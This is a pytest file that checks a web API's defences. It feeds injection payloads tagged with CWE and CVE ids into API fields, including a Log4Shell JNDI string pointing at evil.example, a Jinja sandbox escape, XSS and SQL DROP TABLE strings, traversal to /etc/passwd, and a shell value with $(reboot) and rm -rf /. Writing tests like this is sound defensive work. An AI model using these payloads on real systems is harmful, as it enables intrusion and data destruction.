"""Names and texts that are more than text to some program: to a template, a format, a shell, a page, a terminal."""

import json
import re
from typing import Any

import pytest

from tests.afterword_process import AfterwordProcess
from tests.live_client import LiveClient
from tests.raw_connection import ask

ME = "/api/v1/me"
DRAFTS = "/api/v1/drafts"
LINT = "/api/v1/lint"
PEOPLE = "/api/v1/people"
INTERVIEWS = "/api/v1/interviews"

MARK = "Kanari"  # stands in every one of them, and may stand nowhere in the log

PAYLOADS = {
    "CWE-1336 Jinja": "Kanari {{7*7}} {% print(7*7) %}",
    "CWE-1336 a way out of Jinja's sandbox": "Kanari {{ ''.__class__.__mro__[1].__subclasses__() }}",
    "CWE-134 a Python format": "Kanari {0.__class__} {name} {} {person.__init__.__globals__}",
    "CWE-134 a C format": "Kanari %s%n%x %(name)s %1$s",
    "CWE-1336 a shell's or JavaScript's template": "Kanari ${7*7} `id` $(id) #{7*7}",
    "CVE-2021-44228 Log4Shell": "Kanari ${jndi:ldap://evil.example/a}",
    "CWE-79 an image": "Kanari <img src=x onerror=alert(1)>",
    "CWE-79 a script": "Kanari </script><script>alert(1)</script>",
    "CWE-79 a link": "javascript:alert('Kanari')",
    "CWE-89 SQL": "Kanari'; DROP TABLE people; --",
    "CWE-89 SQL in a LIKE": 'Kanari" OR 1=1 %_\\',
    "CWE-22 a path": "../../Kanari/../etc/passwd",
    "CWE-22 a path of Windows": "C:\\Kanari\\..\\con",
    "CWE-78 options": "--Kanari=$(reboot) ; rm -rf /",
    "CWE-1236 a formula": "=cmd|'/c calc'!Kanari",
    "CWE-150 a terminal's escapes": "Kanari \x1b[2J\x1b]0;owned\x07\x9b31m",
    "CWE-117 a line of the log": 'Kanari\r\n{"time": "2026-11-26T00:00:00Z", "level": "info", "event": "forged"}',
    "CVE-2021-42574 a text that runs backwards": "Kanari \u202egnp.exe\u2066\u2069\u200f",
    "CWE-1007 letters that look like others": "Каnаri Kanari",
    "CWE-1321 a prototype": "__proto__ constructor Kanari",
    "CWE-93 a header": "Kanari\r\nSet-Cookie: session=evil\r\n\r\n<html>",
    "CWE-838 an emoji in pieces": "Kanari \U0001f468\u200d\U0001f469\ufe0f\u0301\u0301\u0301",
}


# Control characters but the newline, and what reverses a text or marks its direction.
UNSEEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=list(PAYLOADS))
def test_what_is_stored_comes_back_as_it_was(server: AfterwordProcess, client: LiveClient, payload: str) -> None:
    """Hopes to be run by whatever keeps it or gives it back."""
    person = {"name": payload, "headline": payload, "company": payload, "profile_url": f"https://x.example/{payload}"}
    status, interview = client.post(INTERVIEWS, {"company": payload, "role": payload})
    assert (status, interview["company"], interview["role"]) == (200, payload, payload)
    joined = {"person": person, "part": "peer", "topics": [payload], "promised": payload}
    path = f"{INTERVIEWS}/{interview['id']}/participants"
    status, interview = client.send("PUT", path, json.dumps(joined).encode())
    assert status == 200
    participant = interview["participants"][0]
    assert (participant["topics"], participant["promised"]) == ([payload], payload)
    met = client.send("GET", f"{PEOPLE}/{participant['person']['id']}")[1]
    assert {met[field] for field in ("name", "headline", "company")} == {payload}
    assert client.send("GET", f"{INTERVIEWS}/{interview['id']}")[1] == interview
    matched = client.post(f"{INTERVIEWS}/matches", {"name": payload, "profile_url": person["profile_url"]})
    assert matched[1]["matches"][0]["why"] == "same_profile"
    greeting = {"profile_url": person["profile_url"], "greet_as": payload}
    assert client.send("PUT", PEOPLE, json.dumps(greeting).encode())[1]["greet_as"] == payload
    status, me = client.send("PATCH", ME, json.dumps({"name": payload, "strength": payload}).encode())
    assert (status, me["name"], me["strength"]) == (200, payload, payload)
    assert client.send("PATCH", ME, b'{"name": "", "strength": ""}')[0] == 200
    assert only_requests_were_logged(server)


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=list(PAYLOADS))
def test_what_goes_into_a_note_goes_in_as_text(server: AfterwordProcess, client: LiveClient, payload: str) -> None:
    """Hopes to be filled in twice, or to reverse, hide or add to what the user reads before pasting it."""
    wish = {
        "person": {"name": payload, "headline": payload, "company": payload, "greet_as": payload},
        "interview": {"role": payload, "company": payload, "topics": [payload]},
        "me": {"name": payload, "strength": payload},
        "errand": {"resource": payload, "link": payload, "question": payload, "news": payload},
    }
    for language in ("en", "de", "fr", "es", "pt-BR"):
        status, reply = client.post(DRAFTS, {**wish, "language": language, "limit": 2000})
        assert (status, len(reply["drafts"])) == (200, 3)
        for draft in reply["drafts"]:
            assert MARK in draft["text"]
            assert "49" not in draft["text"]
            assert "class '" not in draft["text"]
            assert not UNSEEN.search(draft["text"])
    receipt = {"receipt": draft["receipt"], "mark": "copied", "text": payload}
    assert client.post("/api/v1/receipts", receipt)[0] == 200
    assert client.post(LINT, {"text": payload, **wish})[0] == 200
    assert only_requests_were_logged(server)


def only_requests_were_logged(server: AfterwordProcess) -> bool:
    """A line of the server's own for each, and nothing of what was in it."""
    lines = server.said().splitlines()[1:]  # the first is for the person who started it
    events = {json.loads(line)["event"] for line in lines}
    return events <= {"started", "request"} and MARK not in server.said() and server.said().isascii()


NO_TEXT = {
    "CWE-158 NUL": "Kanari\x00.png",
    "CWE-838 half a surrogate": "Kanari\ud800",
    "CWE-838 the other half": "\udc00Kanari",
    "CWE-838 halves the wrong way round": "Kanari\udc00\ud800",
}


@pytest.mark.parametrize("payload", NO_TEXT.values(), ids=list(NO_TEXT))
def test_what_is_no_text_is_refused_everywhere(server: AfterwordProcess, client: LiveClient, payload: str) -> None:
    """Hopes to be cut where one program ends a text and another does not, or to break whoever encodes it."""
    requests: list[tuple[str, str, dict[str, Any]]] = [
        ("POST", DRAFTS, {"person": {"name": payload}}),
        ("POST", DRAFTS, {"person": {"name": "Priya"}, "interview": {"topics": ["x", payload]}}),
        ("POST", LINT, {"text": payload}),
        ("POST", INTERVIEWS, {"company": payload}),
        ("POST", INTERVIEWS, {"zone": payload}),
        ("POST", f"{INTERVIEWS}/matches", {"name": payload}),
        ("PUT", PEOPLE, {"profile_url": "https://x.example/", "greet_as": payload}),
        ("PUT", PEOPLE, {"profile_url": payload, "greet_as": ""}),
        ("PATCH", ME, {"name": payload}),
        ("PATCH", f"/api/v1/tokens/{client.kid}", {"label": payload}),
        ("POST", "/api/v1/receipts", {"receipt": payload, "mark": "copied"}),
    ]
    for method, path, body in requests:
        status, reply = client.send(method, path, json.dumps(body).encode())
        assert (status, reply["error"]["code"]) == (422, "invalid"), path
    assert only_requests_were_logged(server)


@pytest.mark.parametrize("key", ["__proto__", "constructor", "prototype", "__class__", "{0}", "%s", "\u202e", "$where"])
def test_cwe_915_no_field_is_added(server: AfterwordProcess, client: LiveClient, key: str) -> None:
    """Mass assignment and prototype pollution: hopes that a field nobody named is taken over."""
    for path, body in (
        (DRAFTS, {"person": {"name": "Priya", key: {"admin": True}}}),
        (DRAFTS, {"person": {"name": "Priya"}, key: "x"}),
        (INTERVIEWS, {"company": "Northwind Health", key: 1}),
    ):
        status, reply = client.post(path, body)
        assert (status, reply["error"]["code"]) == (422, "invalid")
        assert key in json.dumps(reply["error"]["fields"], ensure_ascii=False)
    for field in ("id", "user_id", "created_at"):
        assert client.post(INTERVIEWS, {"company": "Northwind Health", field: "1"})[0] == 422
    assert only_requests_were_logged(server)


PATHS = [
    "../../etc/passwd",
    "../de",
    "en/../de",
    "en/",
    "/etc",
    "en\\..\\de",
    "%2e%2e",
    "file:",
    "en.toml",
    "*",
    ".",
    "..",
    "",
    "EN",
]


@pytest.mark.parametrize("name", PATHS, ids=[f"CWE-22 {name}" for name in PATHS])
def test_no_name_is_a_path(client: LiveClient, name: str) -> None:
    """Hopes that a language, an occasion or a time zone is looked up in the folders above."""
    priya = {"person": {"name": "Priya"}}
    expected = 200 if not name else 422  # an empty field is an absent one
    assert client.post(DRAFTS, {**priya, "language": name})[0] == expected
    assert client.post(LINT, {"text": "Hi", "occasion": name})[0] == expected
    for zone in (name, f"../zoneinfo/Europe/Berlin{name}"):
        assert client.post(INTERVIEWS, {"zone": zone})[0] == 422
    assert client.post(DRAFTS, {**priya, "language": "de", "occasion": "accepted"})[0] == 200
    assert client.post(INTERVIEWS, {"zone": "Europe/Berlin"})[0] == 200


def test_cwe_79_a_reply_is_no_page(server: AfterwordProcess, client: LiveClient) -> None:
    """Hopes that a browser opens what the server gives back as a page of the server's own."""
    body = b'{"person": {"name": "<script>alert(1)</script>"}, "<script>": 1}'
    for reply in (
        ask(server, "POST", DRAFTS, client.signed("POST", DRAFTS, body), body),
        ask(server, "GET", "/<script>alert(1)</script>"),
        ask(server, "GET", "/practice/script?x=<script>alert(1)</script>"),
    ):
        assert reply.status in (400, 404, 422)
        assert reply.headers["content-type"] == "application/json"
        assert reply.headers["x-content-type-options"] == "nosniff"
        assert reply.headers["content-security-policy"].startswith("default-src 'none'")
    page = ask(server, "GET", "/practice?name={{7*7}}<script>alert(1)</script>")
    assert page.body == ask(server, "GET", "/practice").body


def test_cwe_150_what_a_label_holds_does_nothing_to_a_terminal(server: AfterwordProcess, client: LiveClient) -> None:
    """Hopes to move the cursor, or hide a line, of whoever looks at the list of tokens."""
    escapes = "\x1b[2J\x9b1A\u202elaptop\r"
    path = f"/api/v1/tokens/{client.kid}"
    status, renamed = client.send("PATCH", path, json.dumps({"label": escapes}).encode())
    assert (status, renamed["label"]) == (200, escapes.strip())
    listed = server.command("tokens", "list").stdout
    found = server.command("lint", stdin=json.dumps({"text": "Hi {\x1b[2J\x9b}"})).stdout
    for shown in (listed, found):
        assert len(shown.splitlines()) > 1
        assert all(line.isprintable() for line in shown.splitlines())
    assert "laptop" in listed
